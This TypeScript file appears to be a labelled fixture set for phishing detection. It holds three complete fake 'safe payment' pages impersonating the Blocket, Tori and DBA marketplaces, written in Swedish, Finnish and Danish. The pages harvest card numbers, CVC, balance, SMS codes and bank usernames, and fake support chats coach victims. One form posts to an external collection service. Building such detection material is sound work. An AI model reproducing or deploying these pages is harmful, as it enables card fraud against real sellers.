import { type Entry, htmlRoute } from '../entry.js';
import { doc, logo, cardFields } from '../parts/yx-kit.js';
import { jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
(() => {
  const h = 'blocket-se.kopskydd-betalning.com';
  return {
    id: 'yx-blocket-kopskydd-seller-receive-kit',
    label: 'phishing',
    kind: 'marketplace-safe-payment-kit',
    url: `https://${h}/annons/11842907/ta-emot`,
    body: doc({
      lang: 'sv',
      title: 'Blocket – Ta emot betalning',
      css: `body{margin:0;font-family:"Blocket Sans",Arial,sans-serif;background:#f5f5f5}.h{background:#fff;padding:12px 24px;border-bottom:1px solid #e5e5e5}.w{max-width:560px;margin:22px auto;background:#fff;border-radius:8px;padding:24px}
.it{display:flex;gap:16px;align-items:center;border:1px solid #eee;border-radius:8px;padding:12px}.it svg{flex:none}.ok{background:#e9f7ef;color:#1b6b3a;padding:10px 14px;border-radius:6px;margin:16px 0}
.fld label{display:block;font-size:13px;margin-top:8px;color:#333}.fld input{width:100%;box-sizing:border-box;padding:11px;border:1px solid #bbb;border-radius:6px}.half{display:inline-block;width:48%;margin-right:2%}button{margin-top:16px;width:100%;padding:14px;background:#e30613;color:#fff;border:0;border-radius:6px;font-size:16px}
.chat{position:fixed;right:18px;bottom:18px;width:260px;background:#fff;border-radius:10px;box-shadow:0 4px 18px rgba(0,0,0,.18);font-size:13px}.chat b{display:block;background:#e30613;color:#fff;padding:8px 12px;border-radius:10px 10px 0 0}.chat p{margin:8px 12px}`,
      body: `<div class="h">${logo.word('blocket', '#e30613', 28)}</div>
<div class="w"><div class="it"><svg width="84" height="64"><rect width="84" height="64" rx="6" fill="#cfd8dc"/><circle cx="30" cy="40" r="14" fill="none" stroke="#455a64" stroke-width="4"/><circle cx="62" cy="40" r="14" fill="none" stroke="#455a64" stroke-width="4"/></svg><div><b>Cykel Crescent Elis 7-vxl</b><br>2 750 kr · Uppsala</div></div>
<div class="ok">✔ Köparen har betalat <b>2 750 kr</b> via Blocket Köpskydd. Pengarna frigörs till dig när du har angett kortet du vill ta emot dem på.</div>
<form id="f">${cardFields('sv', ['cardnumber', 'expiry', 'cvc', 'cardholder'])}<div class="fld"><label>Tillgängligt saldo på kortet (krävs för verifiering)</label><input name="saldo" inputmode="numeric"></div><button>Ta emot 2 750 kr</button></form>
<p style="font-size:12px;color:#777">Frakten hämtas av PostNord. Fraktsedel skickas till din e-post efter mottagen betalning.</p></div>
<div class="chat"><b>Blocket Kundtjänst</b><p>Hej! Jag heter Emma och hjälper dig med din försäljning. Fyll i kortuppgifterna så frigörs betalningen direkt 😊</p></div>
<script>
function luhn(n){n=n.replace(/\\D/g,'');var s=0,a=false;for(var i=n.length-1;i>=0;i--){var d=+n[i];if(a){d*=2;if(d>9)d-=9}s+=d;a=!a}return n.length>=13&&s%10===0}
document.getElementById('f').onsubmit=function(e){e.preventDefault();var d=Object.fromEntries(new FormData(this));if(!luhn(d.cardnumber)){alert('Kontrollera kortnumret');return}
fetch('/api/card',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify(Object.assign(d,{ad:'11842907'}))}).then(function(){document.querySelector('.w').innerHTML='<h2>Väntar på bekräftelse…</h2><p>Godkänn överföringen i din bankapp. Koden kan även skickas via SMS:</p><input id=o placeholder=Kod><button onclick="fetch(\\'/api/otp\\',{method:\\'POST\\',body:o.value})">Bekräfta</button>'})};
</script>`,
    }),
    routes: { [`${h}/api/card`]: jsonRoute({ status: 'pending' }), [`${h}/api/otp`]: jsonRoute({ status: 'ok' }) },
  } satisfies Entry;
})(),
{
  id: 'yx-tori-toridiili-getform-kit',
  label: 'phishing',
  kind: 'marketplace-safe-payment-kit',
  url: 'https://tori-fi.toridiili-maksu.store/vastaanota/55201934',
  body: doc({
    lang: 'fi',
    title: 'Tori – Vastaanota maksu',
    css: `body{margin:0;font-family:Arial;background:#f6f6f6}.h{background:#fff;padding:12px 24px;border-bottom:2px solid #f5a623}.c{max-width:520px;margin:24px auto;background:#fff;padding:24px;border-radius:6px}.sum{font-size:30px;font-weight:bold}.fld label{display:block;font-size:13px;margin-top:8px}.fld input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #aaa;border-radius:4px}.half{display:inline-block;width:48%;margin-right:2%}button{margin-top:14px;width:100%;padding:13px;background:#f5a623;color:#222;border:0;border-radius:6px;font-weight:bold;font-size:16px}`,
    body: `<div class="h">${logo.word('tori', '#f5a623', 28)}</div><div class="c"><h2>ToriDiili: ostaja on maksanut</h2><p>Ilmoitus: <b>Lastenrattaat Emmaljunga NXT90</b></p><p class="sum">420,00 €</p>
<p>Maksu on varattu Torin turvamaksuun. Syötä korttitietosi, jolle rahat siirretään. Tori ei veloita korttiasi.</p>
<form action="https://getform.io/f/bwnkqxpa" method="POST">${cardFields('fi', ['korttinumero', 'voimassa', 'cvv', 'nimi'])}<div class="fld"><label>Pankki</label><input name="pankki" placeholder="esim. OP, Nordea"></div><div class="fld"><label>Verkkopankin käyttäjätunnus</label><input name="vp_tunnus"></div><input type="hidden" name="ilmoitus" value="55201934"><button>Vastaanota 420,00 €</button></form>
<p style="font-size:12px;color:#888">Tori.fi · Schibsted Marketplaces Finland</p></div>`,
  }),
} satisfies Entry,
(() => {
  const h = 'dba-dk.sikkerhandel-betaling.com';
  return {
    id: 'yx-dba-sikker-betaling-chat-kit',
    label: 'phishing',
    kind: 'marketplace-safe-payment-kit',
    url: `https://${h}/modtag/7730011`,
    body: doc({
      lang: 'da',
      title: 'DBA – Sikker betaling',
      css: `body{margin:0;font-family:Arial;background:#f4f4f4}.h{background:#fff;padding:12px 24px;border-bottom:1px solid #ddd}.g{max-width:900px;margin:24px auto;display:grid;grid-template-columns:1.4fr 1fr;gap:18px}.c{background:#fff;padding:22px;border-radius:6px}
.m{background:#eef4ff;border-radius:10px;padding:8px 12px;margin:8px 0;font-size:14px}.m.me{background:#e6ffe9;margin-left:30px}.fld label{display:block;font-size:13px;margin-top:8px}.fld input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #aaa}.half{display:inline-block;width:48%;margin-right:2%}button{margin-top:14px;width:100%;padding:13px;background:#00416a;color:#fff;border:0;font-size:16px}`,
      body: `<div class="h">${logo.word('dba', '#00416a', 30)}</div><div class="g"><div class="c"><h2>Modtag betaling – Sikker handel</h2><p>Køber <b>Mette H.</b> har betalt <b>1.850 kr</b> for «Børneseng Flexa hvid inkl. madras». Fragt via GLS er betalt af køber.</p>
<form id="f" method="post" action="/modtag/api.php">${cardFields('da', ['nr', 'exp', 'cvv', 'holder'])}<input type="hidden" name="step" value="kort"><button>Modtag 1.850 kr</button></form>
<p style="font-size:12px;color:#666">Dine oplysninger er beskyttet med 256-bit SSL. DBA er en del af Adevinta.</p></div>
<div class="c"><b>DBA Kundeservice</b><div class="m">Hej! Køber har valgt Sikker betaling. Du skal blot bekræfte dit kort for at få pengene.</div><div class="m me">Skal jeg betale noget?</div><div class="m">Nej 🙂 Der trækkes intet. Hvis din bank beder dig godkende i MobilePay/netbank, er det blot en verificering – tryk «Godkend».</div></div></div>`,
    }),
    routes: {
      [`${h}/modtag/api.php`]: htmlRoute(
        doc({ lang: 'da', title: 'DBA – Godkend', body: `<div style="max-width:420px;margin:60px auto;font-family:Arial"><h2>Godkend i din bank-app</h2><p>Åbn din bank-app og godkend «verificering». Indtast derefter koden fra SMS:</p><form method="post" action="/modtag/api.php?step=sms"><input name="sms"><button>Bekræft</button></form><p>Hvis beløbet ikke overføres, skal vi kende din tilgængelige saldo:</p><form method="post" action="/modtag/api.php?step=saldo"><input name="saldo"><button>Send</button></form></div>` }),
      ),
    },
  } satisfies Entry;
})(),
];
